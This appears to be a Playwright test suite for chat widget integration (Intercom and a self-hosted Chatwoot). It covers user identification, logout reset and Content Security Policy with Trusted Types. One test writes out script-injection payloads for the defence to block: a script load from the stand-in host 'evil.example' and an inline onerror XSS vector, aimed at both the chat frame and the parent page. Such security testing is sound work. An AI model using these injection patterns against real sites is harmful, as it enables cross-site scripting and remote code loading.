import { createHmac } from 'node:crypto';
import { openChatwootServer, playIntercom, serviceFrame, toldTo } from './chat-stand-ins.ts';
import { addressIn, launcher, open, visitChat, type VisitWords } from './chat-visit.ts';
import { expect, test } from './journey.ts';
import { type MovingProduct, openMovingProduct } from './moving-product.ts';

/** Harbor uses Intercom, Mesa a Chatwoot of its own: by settings alone. */
const secret = 'chat-test-secret';
const hashOf = (id: string) => createHmac('sha256', secret).update(id).digest('hex');
const boot = { app_id: 'abcd1234', hide_default_launcher: true };

let product: MovingProduct;
let chatwoot: Awaited<ReturnType<typeof openChatwootServer>>;

test.beforeAll(async ({ baseURL }) => {
  test.setTimeout(300_000);
  chatwoot = await openChatwootServer('site-1');
  product = await openMovingProduct(baseURL ?? '', 3, {
    INTERCOM_APP_ID__HARBOR: 'abcd1234',
    INTERCOM_SECRET__HARBOR: secret,
    INTERCOM_PROOF__HARBOR: 'hash',
    CHATWOOT_URL__MESA: chatwoot.url,
    CHATWOOT_WEBSITE_TOKEN__MESA: 'site-1',
    CHATWOOT_HMAC_KEY__MESA: secret,
  });
});
test.afterAll(async () => {
  await product.close();
  chatwoot.close();
});

const addressOf = (brand: 'harbor' | 'mesa') => addressIn(product, brand);
const visit = (...[context, brand, walk]: VisitWords) => visitChat(product, context, brand, walk);

test('[M06] [F08] Intercom boots anonymous when it is asked for, known after the login, and shuts down at the logout', async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: addressOf('harbor') });
  const { asked } = await playIntercom(context);
  await visit(context, 'harbor', async ({ page, login }) => {
    await open(page, '/faq');
    await page.getByRole('button', { name: 'Continue', exact: true }).click();
    await page.mouse.wheel(0, 300);
    expect(asked, 'a visitor who asks nobody is told to nobody').toEqual([]);

    await launcher(page).click();
    const chat = page.getByRole('dialog', { name: 'Chat with Harbor' });
    const messenger = chat.frameLocator('iframe').frameLocator('iframe');
    await expect(messenger.getByText('Messenger for a visitor')).toBeVisible();
    await expect.poll(() => toldTo(page)).toEqual([['boot', boot], ['show']]);
    // What it added to its frame runs and is styled, and its own calls go out.
    await expect(messenger.locator('body')).toHaveAttribute('data-inner', 'ran');
    await expect(messenger.getByText('Messenger for')).toHaveCSS('color', 'rgb(32, 64, 128)');
    await expect.poll(() => serviceFrame(page).evaluate('window.pinged')).toBe(200);
    await messenger.getByRole('button', { name: 'Close messenger' }).click();
    await expect(chat).toBeHidden();
    await expect(launcher(page)).toBeFocused();

    const person = await login();
    await open(page, '/faq');
    await page.mouse.move(200, 200);
    const known = {
      ...boot,
      user_id: person.id,
      name: person.firstName,
      email: person.email,
      user_hash: hashOf(person.id),
    };
    // The visitor of the page before was never identified, so nobody has to be forgotten.
    await expect.poll(() => toldTo(page)).toEqual([['boot', known]]);
    await serviceFrame(page).evaluate('Intercom("later", 2)');
    await expect(page.getByRole('button', { name: /^Chat.*2 new messages$/ })).toBeVisible();

    // The logout happens in another tab.
    const other = await page.context().newPage();
    await open(other, '/faq');
    await other.evaluate(() => localStorage.removeItem('token'));
    await expect
      .poll(async () => (await toldTo(page)).filter(([verb]) => verb !== 'later').slice(1))
      .toEqual([['shutdown'], ['boot', boot]]);
  });
});

test('[M06] a tab that was closed before the logout leaves nobody behind for the next visitor', async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: addressOf('harbor') });
  await playIntercom(context);
  await visit(context, 'harbor', async ({ page, login }) => {
    await login();
    await open(page, '/faq');
    await page.mouse.move(200, 200);
    await expect.poll(async () => (await toldTo(page)).length).toBe(1);
    await page.goto('/healthz');
    await page.evaluate(() => localStorage.removeItem('token'));
    await open(page, '/faq');
    await page.mouse.move(220, 220);
    await expect.poll(() => toldTo(page)).toEqual([['shutdown'], ['boot', boot]]);
  });
});

test('[M06] with a service’s script in its frame, no foreign script runs, there or in our page', async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: addressOf('harbor') });
  const foreign: string[] = [];
  await context.route('https://evil.example/**', async (route) => {
    foreign.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: 'window.evil = true' });
  });
  await playIntercom(context);
  await visit(context, 'harbor', async ({ page, heard }) => {
    await open(page, '/faq');
    await launcher(page).click();
    await expect.poll(async () => (await toldTo(page)).length).toBe(2);
    expect(heard).toEqual([]);

    const inject = (where: string) => `(() => {
      const script = ${where}.createElement('script');
      const over = new Promise((resolve) => { script.onload = () => resolve('ran'); script.onerror = () => resolve('refused'); });
      script.src = 'https://evil.example/x.js';
      ${where}.body.appendChild(script);
      return over;
    })()`;
    const inline = (where: string) => `(() => {
      const holder = ${where}.createElement('div');
      holder.innerHTML = '<img src="x:" onerror="window.evil = true">';
      const script = ${where}.createElement('script');
      script.append('window.evil = true');
      ${where}.body.append(holder, script);
    })()`;
    const frame = serviceFrame(page);
    expect(await frame.evaluate(inject('document'))).toBe('refused');
    await frame.evaluate(inline('document'));
    // Out of the frame into our page, and in our page itself: only a trusted type may.
    await expect(frame.evaluate(inject('parent.document'))).rejects.toThrow(/TrustedScriptURL/);
    await expect(frame.evaluate(inline('parent.document'))).rejects.toThrow(/TrustedHTML/);
    await expect(page.evaluate(inject('document'))).rejects.toThrow(/TrustedScriptURL/);
    await expect(page.evaluate(inline('document'))).rejects.toThrow(/TrustedHTML/);
    expect(await frame.evaluate('[window.evil, parent.evil]')).toEqual([undefined, undefined]);
    expect(foreign).toEqual([]);
    // It was refused because of the policy, and says so.
    expect(heard.join('\n')).toMatch(/Content Security Policy/);
    heard.length = 0;
  });
});

test('[M06] a blocked script leaves a way to us', async ({ browser }) => {
  const context = await browser.newContext({ baseURL: addressOf('harbor') });
  await context.route('https://widget.intercom.io/**', (route) => route.abort());
  await visit(context, 'harbor', async ({ page, heard }) => {
    await open(page, '/faq');
    await launcher(page).click();
    const chat = page.getByRole('dialog', { name: 'Chat with Harbor' });
    await expect(chat.getByText('The chat didn’t load')).toBeVisible();
    await chat.getByRole('link', { name: 'Contact us' }).click();
    await expect(page).toHaveURL(/\/contact-us$/);
    await expect(chat).toBeHidden();
    heard.length = 0;
  });
});

test('[M06] [F08] another brand’s Chatwoot is told who it is, and is reset at the logout', async ({
  browser,
}) => {
  const context = await browser.newContext({ baseURL: addressOf('mesa') });
  await visit(context, 'mesa', async ({ page, login }) => {
    const person = await login();
    await open(page, '/faq');
    await launcher(page).click();
    const chat = page.getByRole('dialog', { name: 'Chat with Mesa' });
    const widget = chat.frameLocator('iframe').frameLocator('iframe');
    await expect(widget.getByText(`Chatwoot for ${person.firstName}`)).toBeVisible();
    const user = {
      name: person.firstName,
      email: person.email,
      identifier_hash: hashOf(person.id),
    };
    const settings = {
      hideMessageBubble: true,
      showUnreadMessagesDialog: false,
      locale: 'en',
      darkMode: 'auto',
    };
    await expect
      .poll(() => toldTo(page))
      .toEqual([
        ['run', { baseUrl: chatwoot.url, websiteToken: 'site-1' }, settings],
        ['setUser', person.id, user],
        ['toggle', 'open'],
      ]);
    await widget.getByRole('button', { name: 'Close widget' }).click();
    await expect(chat).toBeHidden();
    const other = await page.context().newPage();
    await open(other, '/faq');
    await other.evaluate(() => localStorage.removeItem('token'));
    await expect.poll(async () => (await toldTo(page)).at(-1)).toEqual(['reset']);
    await launcher(page).click();
    await expect(widget.getByText('Chatwoot for a visitor')).toBeVisible();
  });
});

test('[M06] a brand’s own pages let nothing of a chat service through', async ({ page }) => {
  for (const brand of ['harbor', 'mesa'] as const) {
    const answer = await page.goto(`${addressOf(brand)}/faq`);
    const policy = answer?.headers()['content-security-policy'];
    expect(policy).toContain("require-trusted-types-for 'script'; trusted-types portside");
    expect(policy).not.toMatch(/intercom|127\.0\.0\.1/);
  }
});
